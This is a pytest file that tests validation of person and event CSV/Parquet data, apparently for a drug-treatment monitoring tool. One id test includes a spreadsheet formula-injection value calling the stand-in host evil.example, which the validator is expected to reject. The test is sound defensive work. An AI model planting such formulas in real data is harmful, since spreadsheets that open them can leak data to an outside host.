"""Validation: each error names file, row, column and reason; nothing is ever dropped silently."""

from __future__ import annotations

import pandas as pd
import pytest
from conftest import ev

from features.core.errors import ContractError, SunshineError
from features.storage.store import Store


def problems_of(path) -> list[str]:
    with pytest.raises(SunshineError) as info:
        Store(path)
    return [str(p) for p in info.value.problems]


GOOD = [{"person_id": "A"}, {"person_id": "B"}]


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (
            ev("A", "2025-01-01", "teleport"),
            "events.csv: row 1: event_type: unknown event type teleport",
        ),
        (
            ev("A", "yesterday", "checkin_missed"),
            "events.csv: row 1: event_time: cannot parse yesterday as timestamp",
        ),
        (
            ev("A", "2025-01-01", "urine_test", "pos"),
            "events.csv: row 1: value: cannot parse pos as double",
        ),
        (ev(None, "2025-01-01", "checkin_missed"), "events.csv: row 1: person_id: missing"),
        (ev("Z", "2025-01-01", "checkin_missed"), "events.csv: row 1: person_id: unknown person Z"),
        (
            ev("A", "2026-07-01 00:00:00", "checkin_missed"),
            "events.csv: row 1: event_time: after the reference date 2026-06-30",
        ),
        (
            ev("A", "2025-01-01", "urine_test"),
            "events.csv: row 1: value: missing, required for urine_test",
        ),
        (
            ev("A", "2025-01-01", "urine_test", 3),
            "events.csv: row 1: value: 3 outside 0..1 for urine_test",
        ),
        (
            ev("A", "2025-01-01", "checkin_missed", 1),
            "events.csv: row 1: value: event type checkin_missed takes no value",
        ),
        (
            ev("A", "2025-01-01", "rehab_discharge", None, "spa"),
            "events.csv: row 1: detail: spa is not a kind of rehab_discharge",
        ),
        (
            ev("A", "2025-01-02", "checkin_missed", recorded_time="2025-01-01"),
            "events.csv: row 1: recorded_time: before event_time",
        ),
    ],
)
def test_each_event_error_names_file_row_column_reason(dataset, event, expected):
    path = dataset(GOOD, [event])
    found = problems_of(path)
    assert len(found) == 1
    assert found[0].startswith(expected), found[0]


def test_event_on_reference_day_is_accepted(dataset):
    path = dataset(GOOD, [ev("A", "2026-06-30 23:59:59", "checkin_missed")])
    assert Store(path).report.events == 1


@pytest.mark.parametrize(
    ("person", "expected"),
    [
        ({"person_id": None}, "persons.csv: row 3: person_id: missing"),
        ({"person_id": "A"}, "persons.csv: row 3: person_id: duplicate of row 1"),
        (
            {"person_id": "C", "birth_date": "1990-02-30"},
            "persons.csv: row 3: birth_date: cannot parse 1990-02-30 as date",
        ),
        ({"person_id": "C", "sex": "X"}, "persons.csv: row 3: sex: unknown code X"),
        (
            {"person_id": "C", "district": "atlantis"},
            "persons.csv: row 3: district: unknown district atlantis",
        ),
        (
            {"person_id": "C", "registration_date": "2027-01-01"},
            "persons.csv: row 3: registration_date: after the reference date",
        ),
    ],
)
def test_each_person_error(dataset, person, expected):
    path = dataset([*GOOD, person], [])
    found = problems_of(path)
    assert found and found[0].startswith(expected), found


def test_parquet_rows_are_reported_the_same_way(dataset):
    path = dataset(
        GOOD,
        [ev("A", "2025-01-01", "checkin_missed"), ev("A", "2025-01-01", "teleport")],
        fmt="parquet",
    )
    assert problems_of(path)[0].startswith("events.parquet: row 2: event_type: unknown event type")


def test_strict_lists_the_first_20_and_counts_the_rest(dataset):
    events = [ev("A", "2025-01-01", f"bad{i}") for i in range(25)]
    with pytest.raises(SunshineError) as info:
        Store(dataset(GOOD, events))
    assert len(info.value.problems) == 20
    assert info.value.total == 25
    assert "and 5 more" in str(info.value)
    assert "--lenient" in str(info.value)


def test_lenient_sets_bad_rows_aside_and_accounts_for_every_row(dataset, tmp_path):
    persons = [*GOOD, {"person_id": "A"}, {"person_id": "C", "birth_date": "bad"}]
    events = [
        ev("A", "2025-01-01", "checkin_missed"),
        ev("A", "2025-01-01", "checkin_missed"),  # exact duplicate: collapsed, counted
        ev("B", "2025-01-02", "teleport"),
        ev("C", "2025-01-03", "checkin_missed"),  # its person was rejected
        ev("B", "2025-01-04", "urine_test", 0),
    ]
    rejects = tmp_path / "out" / "rejects.csv"
    store = Store(dataset(persons, events), lenient=True, rejects_path=rejects)
    r = store.report
    assert (r.persons, r.rejected_persons) == (2, 2)
    assert (r.events, r.rejected_events, r.duplicate_events_collapsed) == (2, 2, 1)
    assert r.persons + r.rejected_persons == len(persons)
    assert r.events + r.duplicate_events_collapsed + r.rejected_events == len(events)
    rej = pd.read_csv(rejects)
    assert list(rej[["file", "row"]].itertuples(index=False, name=None)) == [
        ("events.csv", 3),
        ("events.csv", 4),
        ("persons.csv", 3),
        ("persons.csv", 4),
    ]
    reasons = dict(zip(zip(rej.file, rej.row, strict=True), rej.reasons, strict=True))
    assert reasons[("events.csv", 4)] == "person_id: person C was rejected in the persons file"
    assert reasons[("persons.csv", 3)] == "person_id: duplicate of row 1"
    assert "event_type: unknown event type teleport" in reasons[("events.csv", 3)]


def test_a_row_with_several_problems_lists_them_all(dataset, tmp_path):
    store = Store(
        dataset(GOOD, [ev("Z", "never", "teleport")]), lenient=True, rejects_path=tmp_path / "r.csv"
    )
    reasons = pd.read_csv(tmp_path / "r.csv").reasons[0]
    for part in (
        "person_id: unknown person Z",
        "event_time: cannot parse never",
        "event_type: unknown",
    ):
        assert part in reasons
    assert store.report.rejected_events == 1


def test_missing_column_and_missing_reference_date(dataset, tmp_path):
    path = dataset(GOOD, [ev("A", "2025-01-01", "checkin_missed")])
    pd.DataFrame({"person_id": ["A"]}).to_csv(path / "persons.csv", index=False)
    with pytest.raises(SunshineError, match=r"persons.csv: missing column\(s\) birth_date"):
        Store(path)
    bare = dataset(GOOD, [], reference_date=None)
    (bare / "dataset.json").unlink(missing_ok=True)
    with pytest.raises(SunshineError, match="no reference date"):
        Store(bare)


def test_csv_with_byte_order_mark_and_no_events_file(tmp_path):
    root = tmp_path / "d"
    root.mkdir()
    (root / "persons.csv").write_bytes(
        "\ufeffperson_id,birth_date,sex,district,ethnicity,registration_date,primary_substance\n"
        "甲1,2001-05-06,F,yunyan,miao,,\n".encode()
    )
    store = Store(root, reference_date=pd.Timestamp("2026-06-30").date())
    assert store.report.persons == 1 and store.report.events == 0
    assert store.con.execute("SELECT person_id FROM persons").fetchall() == [("甲1",)]


def test_only_an_empty_field_is_missing_and_padded_ids_are_rejected(dataset):
    data = dataset(
        [
            {"person_id": "P1", "registration_date": "NaN"},
            {"person_id": " P2"},
            {"person_id": "P3", "birth_date": "1850-01-01"},
            {"person_id": "P4"},
        ],
        [
            ev("P4", "2025-01-01", "methadone_dose", "NA"),
            ev("P4", "2025-01-02", "methadone_dose", "nan"),
        ],
    )
    with pytest.raises(ContractError) as info:
        Store(data)
    text = str(info.value)
    for part in (
        "persons.csv: row 1: registration_date: cannot parse NaN as date",
        "persons.csv: row 2: person_id: has leading or trailing whitespace",
        "persons.csv: row 3: birth_date: before 1900-01-01",
        "events.csv: row 1: value: cannot parse NA as double",
        "events.csv: row 2: value: nan is not a finite number",
    ):
        assert part in text, part


def test_a_folder_is_the_same_data_by_a_relative_or_an_absolute_path(dataset, monkeypatch):
    root = dataset([{"person_id": "P1"}], [ev("P1", "2026-01-05", "urine_test", 0.0, "heroin")])
    absolute = Store(root).identity()
    monkeypatch.chdir(root.parent)
    relative = Store(root.name).identity()
    # what a materialized state and a resumable roster run are matched on
    assert relative == absolute and absolute["source"] == str(root.resolve())
    (root / "events.csv").write_text(
        (root / "events.csv").read_text() + "P1,2026-02-05,urine_test,1,heroin\n"
    )
    assert Store(root.name).identity() != absolute  # new data is other data


def test_a_person_id_is_one_the_api_can_address_and_a_spreadsheet_shows_as_text(dataset, tmp_path):
    """A person id is letters, digits, _ - . or Chinese characters, at most 64: the words a
    missing value is written as are not ids (they would make one person of all of them), a
    formula is not one (a spreadsheet would run it), nor is an id the API cannot address."""
    odd = [
        "NaN",
        "null",
        "None",
        "NA",
        '=HYPERLINK("http://evil.example/?leak","open")',
        "x" * 10_000,
        "P 1",
    ]
    persons = [{"person_id": "P1"}, {"person_id": "张三-01.b_2"}, *({"person_id": i} for i in odd)]
    rejects = tmp_path / "rejects.csv"
    store = Store(dataset(persons, []), lenient=True, rejects_path=rejects)
    assert (store.report.persons, store.report.rejected_persons) == (2, len(odd))
    reasons = pd.read_csv(rejects).set_index("row").reasons.to_dict()
    assert reasons[3] == "person_id: NaN is how a missing value is written, not an id"
    assert reasons[6] == "person_id: NA is how a missing value is written, not an id"
    assert reasons[7] == (
        'person_id: =HYPERLINK("http://e... (46 characters) is not an id: letters, digits, '
        "_ - . or Chinese characters, at most 64"
    )
    assert reasons[8].startswith("person_id: xxxxxxxxxxxxxxxxxxxx... (10000 characters) is not")
    assert reasons[9].startswith("person_id: P 1 is not an id")
    assert len(reasons) == len(odd)


def test_a_row_that_is_not_utf8_is_named_and_can_be_set_aside(tmp_path):
    """One bad byte used to refuse the whole file naming no row (or end in a traceback): the
    row and field are named, and --lenient sets that row aside and keeps the rest."""
    data = tmp_path / "data"
    data.mkdir()
    header = "person_id,birth_date,sex,district,ethnicity,registration_date,primary_substance\n"
    rows = [b"P1,1990-01-01,M,huaxi,han,,\n", b"P2,1990-01-01,M,huaxi,h\xffan,,\n",
            b"P3,1990-01-01,M,huaxi,han,,\n"]  # fmt: skip
    (data / "persons.csv").write_bytes(header.encode() + b"".join(rows))
    (data / "dataset.json").write_text('{"reference_date": "2026-06-30"}')
    with pytest.raises(ContractError) as info:
        Store(data)
    assert "persons.csv: row 2: ethnicity: not valid UTF-8 text" in str(info.value)
    store = Store(data, lenient=True, rejects_path=tmp_path / "rejects.csv")
    assert (store.report.persons, store.report.rejected_persons) == (2, 1)
    assert pd.read_csv(tmp_path / "rejects.csv").row.tolist() == [2]


def test_an_overlong_line_or_field_is_named(tmp_path, monkeypatch):
    """A 200 MB line got a message about objects straddling blocks; a field of megabytes
    was taken as data. The line is named (the limit lowered here to keep the file small),
    and a field over 1,000 characters is a named problem like any other."""
    from features.storage import csv_text

    data = tmp_path / "data"
    data.mkdir()
    header = "person_id,birth_date,sex,district,ethnicity,registration_date,primary_substance\n"
    (data / "dataset.json").write_text('{"reference_date": "2026-06-30"}')
    (data / "persons.csv").write_text(
        header + "P1,1990-01-01,M,huaxi,han,,\nP2,1990-01-01,M,huaxi," + "x" * 2_000 + ",,\n"
    )
    with pytest.raises(ContractError) as info:
        Store(data)
    assert "row 2: ethnicity: 2000 characters; a field holds at most 1,000" in str(info.value)
    monkeypatch.setattr(csv_text, "MAX_LINE_BYTES", 2**20)
    (data / "persons.csv").write_text(
        header + "P1,1990-01-01,M,huaxi,han,,\nP2,1990-01-01,M,huaxi," + "x" * 3 * 2**20 + ",,\n"
    )
    with pytest.raises(ContractError, match="persons.csv: line 3 is longer than 1 MiB"):
        Store(data)
